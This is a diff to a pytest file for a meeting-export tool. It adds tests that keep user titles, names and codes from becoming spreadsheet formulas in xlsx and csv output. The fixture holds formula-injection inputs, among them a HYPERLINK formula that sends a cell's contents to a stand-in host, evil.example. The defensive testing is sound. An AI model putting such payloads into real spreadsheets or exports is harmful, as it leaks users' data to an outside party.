@@ -2,6 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
+import shutil
+import subprocess
+import zipfile
 from datetime import date
 
 import openpyxl
@@ -9,6 +15,7 @@ import pandas as pd
 import pytest
 from click.testing import CliRunner
 
+from qroundtable.cells import csv_text, printable
 from qroundtable.cli import cli
 from qroundtable.errors import FileProblem, InvalidInput
 from qroundtable.roundtable import Roundtable
@@ -164,7 +171,9 @@ def test_stance_cells_carry_the_apps_colours_and_panes_are_frozen(workbook):
     assert status["contested"] == "FFD55E00" and status["agreed"] == "FF009E73"
     actions = wb["Action items"]
     overdue = [r for r in range(2, 9) if actions.cell(r, 7).value is True]
-    assert len(overdue) == 1 and actions.cell(overdue[0], 4).font.color.rgb == "FFD55E00"
+    # Overdue in the app's overdue colours (qroundtable/palette.py), the date and the flag.
+    assert len(overdue) == 1 and actions.cell(overdue[0], 4).font.color.rgb == "FF9A3A00"
+    assert actions.cell(overdue[0], 7).fill.fgColor.rgb == "FFFBE0D0" and actions.cell(overdue[0], 7).font.bold
     assert actions.cell(2, 4).number_format == "yyyy-mm-dd"
 
 
@@ -256,3 +265,127 @@ def test_cli_unknown_meeting_is_one_line(demo_file, tmp_path):
     result = run(demo_file, "--format", "csv", "--out", str(tmp_path / "m.csv"), "--meeting", "nope")
     assert result.exit_code == 1 and len(result.stderr.strip().splitlines()) == 1
     assert not (tmp_path / "m.csv").exists()
+
+
+# -- user text stays text -------------------------------------------------------------------------
+
+SOFFICE = shutil.which("soffice")
+LEAK = '=HYPERLINK("https://evil.example/?leak="&A2,"Principle 4")'
+FORMULAS = [LEAK, "=1+1", "+2+3", "-2+3", "@SUM(1,2)", "#N/A"]
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    """A roundtable whose titles, names and assignees look like formulas or hold unwritable characters."""
+    with Roundtable.create(tmp_path / "hostile.qrt", title="=1+1 roundtable", secretariat="US") as table:
+        table.delegations.add("JP", "=Japan")
+        for n, title in enumerate(FORMULAS, start=1):
+            table.principles.add(title, f"Text {n}.")
+            table.positions.set("JP", n, "support")
+        table.principles.add("odd \ufffe\uffff\ufdd0\U0001ffff end", "Text.")
+        table.actions.add("=1+1", "US", due="2020-01-01", assignee="-2+3")
+        table.actions.add("@SUM(1,2)", "JP", due="2020-01-02", assignee="+44 20 7946 0000")
+        table.actions.add("plain", "JP")
+        # Control characters the core refuses today may sit in an older file or an imported row.
+        with table.batch("an older file's row"):
+            item = next(a for a in table.actions.list() if a.title == "plain")
+            table.store.update("action_items", item.id, {"title": "ctl \x01\x0b\x1f end"})
+        yield table
+
+
+def sheet_values(path) -> dict[str, list[list]]:
+    wb = openpyxl.load_workbook(path)
+    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in wb}
+
+
+def test_user_text_is_never_a_formula_in_the_workbook(hostile, tmp_path):
+    out = export_matrix(hostile, tmp_path / "h.xlsx", "xlsx", today=date(2026, 12, 1))
+    wb = openpyxl.load_workbook(out)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
+    with zipfile.ZipFile(out) as z:  # no formula element anywhere in the package
+        assert not any(re.search(rb"<(\w+:)?f[ >]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets"))
+    consensus = {row[0]: row[1] for row in sheet_values(out)["Consensus"][1:]}
+    assert [consensus[n] for n in range(1, 7)] == FORMULAS
+    actions = {row[0]: row[2] for row in sheet_values(out)["Action items"][1:]}
+    assert actions["=1+1"] == "-2+3" and actions["@SUM(1,2)"] == "+44 20 7946 0000"
+    # Excel's quote prefix: the text stays text even when someone edits the cell and presses Enter.
+    leak = next(c for c in wb["Consensus"]["B"] if c.value == LEAK)
+    assert leak.data_type == "s" and leak.quotePrefix
+    assert wb["Positions"]["B1"].comment.text == f"P1: {LEAK}"
+
+
+def test_characters_a_workbook_cannot_hold_become_replacement_characters(hostile, tmp_path):
+    out = export_matrix(hostile, tmp_path / "h.xlsx", "xlsx", today=date(2026, 12, 1))
+    titles = [row[1] for row in sheet_values(out)["Consensus"][1:]]
+    assert titles[-1] == "odd \ufffd\ufffd\ufffd\ufffd end"
+    assert "ctl \ufffd\ufffd\ufffd end" in [row[0] for row in sheet_values(out)["Action items"][1:]]
+    assert openpyxl.load_workbook(out).properties.title == "=1+1 roundtable: positions"
+    assert printable("a\ud800b\x00c\td\ne\rf") == "a\ufffdb\ufffdc\td\ne\rf"  # tab and line ends are text
+
+
+@pytest.mark.parametrize("text, field", [
+    ("=1+1", "'=1+1"), ("+2+3", "'+2+3"), ("-2+3", "'-2+3"), ("@SUM(1,2)", "'@SUM(1,2)"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), (LEAK, "'" + LEAK), ("support", "support"), ("a=b", "a=b"), ("", ""), (None, ""), (3, "3"),
+    ("bad \uffff", "bad \ufffd"),
+])
+def test_csv_fields_are_neutralised_as_owasp_recommends(text, field):
+    assert csv_text(text) == field
+
+
+def test_the_matrix_csv_neutralises_codes_from_the_file(demo_file, tmp_path):
+    import shutil as sh
+
+    copy = tmp_path / "odd.qrt"
+    sh.copy(demo_file, copy)
+    with Roundtable.open(copy) as table:
+        with table.batch("a code no check would let in today"):
+            row = next(d for d in table.delegations.list() if d.code == "AU")
+            table.store.update("delegations", row.id, {"code": "=AU"})
+        out = table.export_matrix(tmp_path / "m.csv", "csv")
+    lines = out.read_text(encoding="utf-8").splitlines()
+    assert lines[1].startswith("'=AU,support,")
+
+
+def test_the_consensus_csv_of_the_command_line_neutralises_titles(hostile):
+    result = CliRunner().invoke(cli, ["--db", str(hostile.path), "consensus", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    assert [r[1] for r in rows[1:7]] == ["'" + f for f in FORMULAS[:5]] + ["#N/A"]
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
+def test_libreoffice_reads_every_title_as_text(hostile, tmp_path):
+    """LibreOffice opens both files as a user would; nothing is evaluated, nothing becomes a link."""
+    xlsx = export_matrix(hostile, tmp_path / "h.xlsx", "xlsx", today=date(2026, 12, 1))
+    matrix_csv = hostile.export_matrix(tmp_path / "m.csv", "csv")
+    consensus_csv = tmp_path / "consensus.csv"
+    consensus_csv.write_text(CliRunner().invoke(cli, ["--db", str(hostile.path), "consensus", "--format",
+                                                      "csv"]).stdout, encoding="utf-8")
+    profile = f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}"
+
+    def soffice(*args) -> None:
+        result = subprocess.run([SOFFICE, profile, "--headless", *map(str, args)], capture_output=True, text=True,
+                                timeout=240)
+        assert result.returncode == 0 and "Error" not in result.stderr, (
+            result.stderr + "\n(LibreOffice Calc is needed: apt install libreoffice-calc-nogui)")
+
+    # The workbook, every sheet as the values LibreOffice shows: "=1+1" must not read "2".
+    soffice("--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
+            "--outdir", tmp_path / "shown", xlsx)
+    shown = {p.stem.removeprefix("h-"): list(csv.reader(p.open(encoding="utf-8")))
+             for p in (tmp_path / "shown").glob("*.csv")}
+    assert [r[1] for r in shown["Consensus"][1:7]] == FORMULAS
+    assert {r[0] for r in shown["Action items"][1:]} >= {"=1+1", "@SUM(1,2)"}
+    assert "-2+3" in {r[2] for r in shown["Action items"][1:]}
+    assert "Principle 4" not in {v for rows in shown.values() for r in rows for v in r}
+
+    # The CSV files opened with formula evaluation on (the riskiest setting): every field stays text.
+    options = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
+    soffice(f"--infilter={options}", "--convert-to", "xlsx", "--outdir", tmp_path / "opened", matrix_csv,
+            consensus_csv)
+    for name in ("m", "consensus"):
+        ws = openpyxl.load_workbook(tmp_path / "opened" / f"{name}.xlsx").active
+        assert [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"] == [], name
+    titles = [row[1].value for row in openpyxl.load_workbook(tmp_path / "opened" / "consensus.xlsx").active.iter_rows()]
+    assert all(LEAK in t for t in titles if t and "HYPERLINK" in t) and any("HYPERLINK" in (t or "") for t in titles)
